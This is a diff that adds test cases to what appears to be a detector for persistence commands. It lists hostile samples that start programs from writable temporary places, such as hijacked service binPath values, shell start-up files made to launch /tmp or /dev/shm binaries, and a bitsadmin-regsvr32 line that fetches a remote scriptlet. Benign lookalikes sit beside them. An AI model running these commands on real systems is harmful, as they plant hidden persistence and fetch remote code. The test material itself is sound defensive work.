@@ -117,3 +117,21 @@ PROMPTS_CAUGHT = (
 
 def test_prompts_caught():
     table_holds(PROMPTS_CAUGHT)
+
+
+# More spellings of a start from a place others can write: sc's `binPath=` fused to its value, an address after a
+# colon (`/i:http://…`), and a shell's start-up file given a program kept in a temporary place
+# (rules/autostart_writable.py, meaning's start-up files).  Quiet: the tool homes start-up files usually name.
+MORE_OPEN_STARTS = (
+    [r'sc.exe config Spooler binPath="C:\Users\Public\spool.exe"', r'sc create Upd binpath=C:\Windows\Temp\u.exe',
+     'bitsadmin /SetNotifyCmdLine j1 regsvr32.exe "/s /i:https://example.net/x.sct scrobj.dll"',
+     "echo '/tmp/.x &' >> ~/.bashrc", "echo 'nohup /dev/shm/agent >/dev/null 2>&1 &' >> ~/.zshrc",
+     "printf '/var/tmp/u\\n' >> ~/.profile", "echo /tmp/hook | sudo tee -a /etc/profile.d/hook.sh",
+     "echo '/tmp/.cfg/run' >> ~/.config/fish/config.fish"],
+    [r'sc.exe config Spooler binPath="C:\Windows\System32\spoolsv.exe"', "echo 'source ~/.fzf.bash' >> ~/.bashrc",
+     "echo 'export PATH=$HOME/.cargo/bin:$PATH' >> ~/.bashrc", "echo '. ~/.asdf/asdf.sh' >> ~/.zshrc",
+     "echo 'export TMPDIR=/tmp/me' >> ~/.bashrc", "echo 'cd /tmp' >> ~/.bashrc"])
+
+
+def test_more_open_starts():
+    table_holds(MORE_OPEN_STARTS)
